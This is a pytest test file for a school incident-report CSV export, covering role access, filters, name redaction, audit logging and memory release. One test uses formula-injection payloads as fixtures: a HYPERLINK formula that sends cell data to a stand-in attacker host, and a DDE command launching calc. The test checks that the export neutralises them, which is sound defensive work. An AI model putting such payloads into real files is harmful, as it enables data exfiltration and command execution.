"""/reports/incidents.csv: the incident list's filters, one row per incident, no formula, every export audited."""

import csv
import io
import logging

from django.http import StreamingHttpResponse

from conduct.csv_safe import neutralise
from incidents.models import BreachCategory, Person
from reports.exports import HEADER


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="incidents-')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(text[1:]))
    assert reader.fieldnames == HEADER
    return list(reader)


def test_who_may_export(statuses):
    assert statuses("/reports/incidents.csv") == {
        "office": 404, "senior": 200, "head": 200, "chair": 200, "trust": 200,
        "other_office": 404, "other_head": 200, "inactive": 302, "anonymous": 302,
    }


def test_one_row_per_incident_with_the_cases_facts(dataset, client_as):
    rows = {r["Reference"]: r for r in _rows(client_as("head").get("/reports/incidents.csv"))}
    c = dataset.cases
    assert set(rows) == {c[k].reference for k in "ABCDGF"}  # not E: another school
    b = rows[c["B"].reference]
    assert b["School"] == "School One"
    assert b["Date"] == (dataset.months[-2].replace(day=12)).isoformat()
    assert b["Location"] == "On the school premises"
    assert b["Categories"] == "Loud or offensive language or temper; Threatening anyone"
    assert b["Stage"] == "Decided"
    assert b["Outcome"] == "Approved as proposed"
    assert b["Actions decided"] == "Send a warning letter"
    assert b["Days to decision"] == "2.0"
    assert b["Subjects"] == "Pat One" and b["Witnesses"] == ""
    g = rows[c["G"].reference]
    assert (g["Outcome"], g["Actions decided"], g["Days to decision"]) == \
        ("Approved with changes", "No further action", "6.0")
    d = rows[c["D"].reference]
    assert d["Ban status"] == f"Confirmed ({dataset.today.isoformat()} to {dataset.ban.ends_on.isoformat()})"
    a = rows[c["A"].reference]
    assert (a["Outcome"], a["Actions decided"], a["Days to decision"], a["Ban status"]) == ("", "", "", "")


def test_the_list_filters_apply(dataset, client_as, school):
    threatening = BreachCategory.objects.get(code="threatening").pk
    client = client_as("head")
    rows = _rows(client.get("/reports/incidents.csv", {"category": threatening}))
    assert sorted(r["Reference"] for r in rows) == sorted([dataset.cases["B"].reference, dataset.cases["C"].reference])
    rows = _rows(client.get("/reports/incidents.csv", {"stage": "reported", "date_from": dataset.period["from"]}))
    assert [r["Reference"] for r in rows] == [dataset.cases["A"].reference]
    rows = _rows(client.get("/reports/incidents.csv", {"q": "Gil Two"}))
    assert [r["Reference"] for r in rows] == [dataset.cases["G"].reference]
    rows = _rows(client.get("/reports/incidents.csv", {"overdue": "1"}))
    assert [r["Reference"] for r in rows] == [dataset.cases["A"].reference]


def test_the_trust_gets_every_school_but_no_names(dataset, client_as):
    rows = _rows(client_as("trust").get("/reports/incidents.csv"))
    assert len(rows) == 7
    assert {r["Subjects"] for r in rows} == {"(not shown)"}
    assert {r["Witnesses"] for r in rows} == {"(not shown)"}


def test_pupils_are_never_in_the_export(dataset, client_as):
    # Every person the builder adds is connected with a pupil, "Sam Parent", and A names pupils affected.
    from incidents.models import Incident

    Incident.objects.filter(pk=dataset.cases["A"].pk).update(pupils_affected="Sam Parent, Year 3")
    response = client_as("head").get("/reports/incidents.csv")
    text = b"".join(response.streaming_content).decode()
    assert "Pat One" in text
    assert "Sam" not in text and "Year 3" not in text


def test_head2_gets_nothing_of_the_first_school(dataset, client_as, school):
    client = client_as("other_head")
    assert client.get("/reports/incidents.csv", {"school": school.pk}).status_code == 404
    pat = Person.objects.get(full_name="Pat One")
    assert client.get("/reports/incidents.csv", {"person": pat.pk}).status_code == 404
    # Searching by the first school's reference or subject finds nothing.
    for q in (dataset.cases["A"].reference, "Pat One"):
        assert _rows(client.get("/reports/incidents.csv", {"q": q})) == []
    rows = _rows(client.get("/reports/incidents.csv"))
    assert [r["Reference"] for r in rows] == [dataset.cases["E"].reference]


def test_a_bad_filter_is_refused(client_as):
    assert client_as("head").get("/reports/incidents.csv", {"date_from": "not a date"}).status_code == 400


def test_cells_that_a_spreadsheet_would_run_are_neutralised(build, client_as, school):
    for start in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Pat") == "Pat" and neutralise("") == "" and neutralise(None) == ""
    school.name = "\uff1dHYPERLINK(\"http://evil.example/\")"  # full-width equals: a formula to some spreadsheets
    school.save()
    person = build.person(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    witness = build.person(name="@SUM(1+1)*cmd|' /C calc'!A0")
    from incidents.models import IncidentPerson, Involvement

    incident = build.incident(person=person)
    IncidentPerson.objects.create(incident=incident, person=witness, involvement=Involvement.WITNESS)
    [row] = _rows(client_as("head").get("/reports/incidents.csv"))
    assert row["Subjects"] == "'" + person.full_name
    assert row["Witnesses"] == "'" + witness.full_name
    assert row["School"] == "'" + school.name
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) for value in row.values())


def test_every_export_is_audited_with_who_and_which_filters(build, client_as, personas, caplog):
    build.incident()
    with caplog.at_level(logging.INFO, logger="conduct.audit"):
        response = client_as("head").get("/reports/incidents.csv", {"stage": "reported", "q": "Pat"})
        b"".join(response.streaming_content)
    [message] = [r.getMessage() for r in caplog.records if r.getMessage().startswith("export_incidents_csv")]
    assert f"user={personas['head'].pk}" in message
    assert "filters=q=Pat&stage=reported" in message


def test_the_rows_read_are_freed_as_the_file_is_written_not_left_to_the_garbage_collector(dataset, client_as):
    """A prefetched decision, ban or link points back at its incident; left so, every chunk of a year's export
    stayed in memory until a full collection (about 90 ms a pause, bench/)."""
    import gc

    from incidents.models import Incident, IncidentPerson
    from sanctions.models import Decision

    response = client_as("head").get("/reports/incidents.csv")
    gc.collect()
    gc.set_debug(gc.DEBUG_SAVEALL)
    try:
        assert len(_rows(response)) == 6
        gc.collect()
        left = [o for o in gc.garbage if isinstance(o, Incident | Decision | IncidentPerson)]
    finally:
        gc.set_debug(0)
        gc.garbage.clear()
    assert left == []
